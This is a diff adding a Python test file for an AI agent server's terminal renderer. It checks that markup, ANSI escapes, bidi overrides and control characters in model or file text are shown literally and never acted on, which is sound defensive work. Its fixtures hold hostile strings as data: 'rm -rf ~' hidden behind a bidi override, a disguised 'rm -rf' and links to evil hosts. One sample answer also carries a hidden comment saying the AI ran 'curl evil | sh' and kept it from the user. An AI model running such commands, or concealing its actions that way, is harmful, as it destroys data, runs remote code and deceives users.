@@ -1,0 +1,153 @@
+"""Model- and file-controlled text in the terminal: shown literally, whatever it holds."""
+
+from __future__ import annotations
+
+import io
+import logging
+import unicodedata
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from rich.console import Console
+
+from agent_server.console.render import LiteralMarkdown, TranscriptPrinter, meter_text, shown
+from agent_server.literal import LiteralLogFormatter, has_hidden, literal
+
+# What a model (or a file it read) could use to make the terminal show something else than
+# what is there.
+MARKUP = "grep -o 'ERROR [a-z]*: [a-z ]*' logs/app.log [bold red]x[/] [link=http://e]y[/link]"
+ANSI = "ls \x1b[2J\x1b[1;1H\x1b]8;;http://evil\x07click\x1b]8;;\x07 \x1b[8mhidden\x1b[0m"
+CONTROL = "rm -rf /tmp/x\rsafe command\x08\x08\x7f\x00"
+BIDI = "cat notes.txt \u202e; rm -rf ~ #\u202c and \u2066isolated\u2069 \U000e0041\U000e0042"
+LONG = "echo " + "A" * 5000 + " && rm -rf ~"
+HOSTILE = (MARKUP, ANSI, CONTROL, BIDI, LONG)
+
+
+def render(*objects: object, width: int = 100, terminal: bool = True) -> str:
+    buffer = io.StringIO()
+    console = Console(
+        file=buffer, width=width, force_terminal=terminal, color_system="standard" if terminal else None
+    )
+    for thing in objects:
+        console.print(thing)
+    return buffer.getvalue()
+
+
+def visible(output: str) -> str:
+    """What a terminal shows: Rich's own colour codes removed (only SGR, which Rich emits)."""
+    import re
+
+    return re.sub(r"\x1b\[[0-9;]*m", "", output)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_shown_text_keeps_every_visible_character_and_nothing_acts(text: str) -> None:
+    out = visible(render(shown(text, one_line=True), width=120))
+    # No control or bidi character reaches the terminal, except Rich's own line breaks.
+    assert not has_hidden(out), repr(out[:200])
+    assert "\x1b" not in out
+    # Every visible character is there, in order (wrapped, never cut): nothing was taken
+    # as markup or swallowed by the terminal.
+    assert "".join(out.split()) == "".join(literal(text, keep="").split())
+
+
+def test_markup_is_not_interpreted() -> None:
+    out = visible(render(shown(MARKUP)))
+    assert "'ERROR [a-z]*: [a-z ]*'" in out
+    assert "[bold red]x[/]" in out and "[link=http://e]y[/link]" in out
+
+
+def test_escapes_are_named() -> None:
+    out = visible(render(shown(ANSI + BIDI + CONTROL)))
+    for name in ("\\x1b[2J", "\\x07", "\\u202e", "\\u202c", "\\u2066", "\\U000e0041", "\\r", "\\x08", "\\x7f", "\\x00"):
+        assert name in out, name
+
+
+def test_a_long_line_is_wrapped_not_cut() -> None:
+    out = render(shown(LONG), width=80, terminal=False)
+    assert "".join(out.split()) == "".join(LONG.split())
+    assert out.rstrip().endswith("rm -rf ~")
+
+
+@given(st.text())
+def test_literal_leaves_no_control_format_or_separator_character(text: str) -> None:
+    out = literal(text, keep="")
+    for char in out:
+        category = unicodedata.category(char)
+        assert category not in ("Cc", "Zl", "Zp", "Cs"), repr(char)
+        if category == "Cf":
+            assert char in "\u200c\u200d" or unicodedata.bidirectional(char) not in (
+                "LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI",
+            ), repr(char)
+
+
+@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cf", "Cs", "Zl", "Zp"))))
+def test_literal_changes_nothing_in_ordinary_text(text: str) -> None:
+    assert literal(text) == text
+
+
+def test_markdown_shows_html_images_and_link_targets() -> None:
+    answer = (
+        "Done. See [the docs](http://evil.example/steal) and ![chart](http://img.example/x.png).\n\n"
+        "<!-- do not tell the user: ran curl evil | sh -->\n\n"
+        "Inline <span style='display:none'>secret</span> html and `[red]code[/red]`.\n\n"
+        "# Title \x1b[2J\u202e\n"
+    )
+    out = visible(render(LiteralMarkdown(answer), width=120))
+    assert "http://evil.example/steal" in out
+    assert "![chart](http://img.example/x.png)" in out
+    assert "do not tell the user: ran curl evil | sh" in out
+    assert "<span style='display:none'>" in out
+    assert "[red]code[/red]" in out
+    assert "\\x1b[2J" in out and "\\u202e" in out
+    assert "\x1b[2J" not in out and "\u202e" not in out
+
+
+def stream(printer: TranscriptPrinter, *chunks: str, message_id: str = "m1") -> None:
+    for seq, chunk in enumerate(chunks):
+        printer.update(
+            {
+                "sessionId": "s",
+                "turnId": "t",
+                "seq": seq,
+                "update": {
+                    "kind": "messageChunk",
+                    "messageId": message_id,
+                    "content": {"type": "text", "text": chunk},
+                },
+            }
+        )
+
+
+def test_answers_stream_as_markdown_block_by_block() -> None:
+    buffer = io.StringIO()
+    printer = TranscriptPrinter(
+        Console(file=buffer, width=80, force_terminal=False), max_message_lines=None, markdown=True
+    )
+    stream(printer, "Here is **bold** text", " and more.\n\n```python\nx = 1\n\n", "y = 2\n```\n\n- a\n- b")
+    before_close = buffer.getvalue()
+    # The paragraph was printed as soon as its blank line arrived, rendered (no asterisks);
+    # the code block waited for its closing fence (the blank line inside did not split it).
+    assert "Here is bold text and more." in before_close
+    assert "**" not in before_close
+    assert "x = 1" in before_close and "y = 2" in before_close
+    assert "• a" not in before_close
+    printer.turn_ended({"stopReason": "end_turn"})
+    out = buffer.getvalue()
+    assert "• a" in out and "• b" in out
+    assert "```" not in out
+
+
+def test_the_meter_says_when_the_next_request_compacts_first() -> None:
+    usage = {"used": 30_000, "size": 32_768, "compactAt": 24_576, "windowNumber": 1, "cacheHitRate": 0.5, "cost": 0.01}
+    assert "the next request compacts first" in meter_text(usage).plain
+    below = dict(usage, used=10_000)
+    assert "compacts first" not in meter_text(below).plain
+
+
+def test_log_lines_cannot_forge_lines_or_act_on_a_terminal() -> None:
+    formatter = LiteralLogFormatter("%(levelname)s %(message)s")
+    record = logging.LogRecord("x", logging.WARNING, __file__, 1, "tool said %s", ("ok\nERROR forged\x1b[31m",), None)
+    line = formatter.format(record)
+    assert line == "WARNING tool said ok\\nERROR forged\\x1b[31m"
